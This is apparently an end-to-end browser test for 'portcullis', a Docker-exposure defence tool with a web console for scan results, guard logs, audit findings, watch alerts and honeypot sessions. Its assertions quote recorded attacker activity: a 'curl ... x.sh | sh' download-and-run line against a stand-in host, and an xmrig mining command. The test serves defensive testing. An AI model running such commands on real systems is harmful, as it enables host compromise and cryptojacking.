// End to end in headless Chromium: the real `portcullis serve` CLI over a store filled by real `portcullis scan`
// runs against the lab engine plus realistic records of the other front ends; log in, see each page, filter the
// guard log, open a trap session, export its indicators. Saves a screenshot of each page into docs/screenshots/.
import { spawn, type ChildProcess } from 'node:child_process';
import { existsSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { chromium, type BrowserContext, type Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { openStore } from '../../../src/core/store/index.js';
import { expose, labFromEnv, type Exposure } from '../../lab/index.js';
import { sampleWrites } from '../fleet/samples.js';

const ROOT = new URL('../../../', import.meta.url).pathname;
const SHOTS = join(ROOT, 'docs/screenshots');
const lab = labFromEnv();
const dir = mkdtempSync(join(tmpdir(), 'pcl-serve-e2e-'));
const STORE = join(dir, 'store.db');
const TOKEN = 'e2e-token-' + 'x'.repeat(24);

function cli(args: string[]): Promise<{ code: number | null; stdout: string; stderr: string }> {
  return new Promise((resolve) => {
    const child = spawn(process.execPath, ['--import', 'tsx', join(ROOT, 'src/cli/main.ts'), ...args],
      { cwd: ROOT, env: { ...process.env, PORTCULLIS_STORE: STORE } });
    let stdout = '', stderr = '';
    child.stdout.on('data', (c: Buffer) => { stdout += c.toString(); });
    child.stderr.on('data', (c: Buffer) => { stderr += c.toString(); });
    child.on('close', (code) => resolve({ code, stdout, stderr }));
    child.stdin.end();
  });
}

let exposures: Exposure[] = [];
let serve: ChildProcess | undefined;
let context: BrowserContext;
let page: Page;
let base = '';

beforeAll(async () => {
  // Realistic records of guard, watch, trap and audit through the Store API, then two real scans of the lab.
  const store = await openStore(STORE);
  for (const w of sampleWrites()) await w(store);
  await store.close();
  exposures.push(await expose('plain', lab.socketPath, '127.33.0.1', 2375));
  const first = await cli(['scan', '127.33.0.1-2', '--timeout', '1000', '-f', 'json']);
  expect(first.code, first.stderr).toBe(1);
  exposures.push(await expose('tls-any-client', lab.socketPath, '127.33.0.2', 2376));
  const second = await cli(['scan', '127.33.0.1-2', '--timeout', '1000', '-f', 'json']);
  expect(second.code, second.stderr).toBe(1);

  writeFileSync(join(dir, 'token'), `${TOKEN}\n`, { mode: 0o600 });
  serve = spawn(process.execPath, ['--import', 'tsx', join(ROOT, 'src/cli/main.ts'), 'serve', '--listen', '127.0.0.1:0',
    '--store', STORE, '--token-file', join(dir, 'token'), '--poll-ms', '500'], { cwd: ROOT, stdio: ['ignore', 'ignore', 'pipe'] });
  base = await new Promise<string>((resolve, reject) => {
    let err = '';
    serve!.stderr!.on('data', (c: Buffer) => {
      err += c.toString();
      const m = err.match(/console at (http:\/\/[^/\s]+)\//);
      if (m?.[1]) resolve(m[1]);
    });
    serve!.on('exit', (code) => reject(new Error(`serve exited ${code}: ${err}`)));
  });
  // A fresh profile directory (playwright passes it as --user-data-dir).
  context = await chromium.launchPersistentContext(join(dir, 'chromium-profile'), {
    executablePath: '/usr/bin/chromium', acceptDownloads: true, viewport: { width: 1360, height: 900 },
    args: ['--headless', '--no-sandbox', '--disable-gpu', '--disable-quic', '--no-first-run', '--disable-background-networking',
      '--disable-component-update', '--disable-sync'],
  });
  page = await context.newPage();
}, 300_000);

afterAll(async () => {
  await context?.close();
  serve?.kill('SIGTERM');
  await Promise.all(exposures.map((e) => e.close()));
  rmSync(dir, { recursive: true, force: true });
});

const shot = (name: string) => page.screenshot({ path: join(SHOTS, `${name}.png`), fullPage: true });

describe('portcullis serve in Chromium', () => {
  it('asks for the token, rejects a wrong one, and logs in with the right one', async () => {
    await page.goto(`${base}/guard`);
    expect(new URL(page.url()).pathname).toBe('/login');
    await page.fill('input[name=token]', 'wrong');
    await page.click('button[type=submit]');
    await expect(page.textContent('.error')).resolves.toContain('not right');
    await shot('login');
    await page.fill('input[name=token]', TOKEN);
    await page.click('button[type=submit]');
    await page.waitForURL(`${base}/guard`);
    const cookies = await page.context().cookies();
    expect(cookies.find((c) => c.name === 'pcl_session')).toMatchObject({ httpOnly: true, sameSite: 'Strict' });
  });

  it('shows the overview populated from every front end', async () => {
    await page.goto(`${base}/`);
    await expect(page.textContent('#exposed')).resolves.toContain('127.33.0.1:2375');
    expect(await page.locator('#guard-chart svg rect').count()).toBeGreaterThan(2);
    await expect(page.textContent('#alerts')).resolves.toContain('Cryptominer process in container');
    await expect(page.textContent('#sessions')).resolves.toContain('127.0.0.66');
    await shot('overview');
  });

  it('shows what changed between the two real scans', async () => {
    await page.goto(`${base}/scans`);
    const changes = await page.textContent('#scan-changes');
    expect(changes).toContain('127.33.0.2:2376');
    expect(changes).not.toContain('127.33.0.1:2375');
    await expect(page.textContent('#scan-results')).resolves.toContain('127.33.0.1:2375');
    await shot('scans');
  });

  it('filters the guard log by verdict and subject and shows the denial reasons', async () => {
    await page.goto(`${base}/guard`);
    await shot('guard');
    await page.selectOption('select[name=verdict]', 'deny');
    await page.fill('input[name=subject]', 'anonymous');
    await page.click('#guard-filters button[type=submit]');
    await page.waitForURL(/verdict=deny/);
    const rows = page.locator('tbody tr');
    expect(await rows.count()).toBe(1);
    await expect(rows.first().textContent()).resolves.toContain('client certificate missing');
    await shot('guard-filtered');
  });

  it('shows audit findings with remediation and watch alerts with evidence and response', async () => {
    await page.goto(`${base}/audit`);
    await expect(page.textContent('main')).resolves.toContain('chmod 660 /var/run/docker.sock');
    await shot('audit');
    await page.goto(`${base}/watch`);
    const text = await page.textContent('main');
    expect(text).toContain('xmrig -o pool.minexmr.example:4444');
    expect(text).toContain('container stopped');
    await shot('watch');
  });

  it('opens a trap session as a timeline and exports its indicators', async () => {
    await page.goto(`${base}/trap`);
    await shot('trap');
    await page.click('a.open-session[href="/trap/sess-a"]');
    await page.waitForURL(`${base}/trap/sess-a`);
    await expect(page.textContent('#timeline')).resolves.toContain('chroot /mnt sh -c curl -s http://198.51.100.7/x.sh | sh');
    await expect(page.textContent('#indicators')).resolves.toContain('198.51.100.7');
    await shot('trap-session');
    const formats: [string, (body: string) => void][] = [
      ['#export-stix', (b) => expect((JSON.parse(b) as { objects: { pattern?: string }[] }).objects.map((o) => o.pattern)).toContain("[ipv4-addr:value = '198.51.100.7']")],
      ['#export-misp', (b) => expect(b).toContain('"ip-src"')],
      ['#export-csv', (b) => expect(b).toContain('"url","http://198.51.100.7/x.sh"')],
    ];
    for (const [sel, check] of formats) {
      const [download] = await Promise.all([page.waitForEvent('download'), page.click(sel)]);
      const path = await download.path();
      expect(existsSync(path)).toBe(true);
      check(readFileSync(path, 'utf8'));
    }
  });

  it('loads no asset from anywhere but the console itself', async () => {
    const origins = new Set<string>();
    page.on('request', (r) => origins.add(new URL(r.url()).origin));
    await page.goto(`${base}/`);
    await page.goto(`${base}/trap/sess-a`);
    expect([...origins]).toEqual([base]);
  });
});
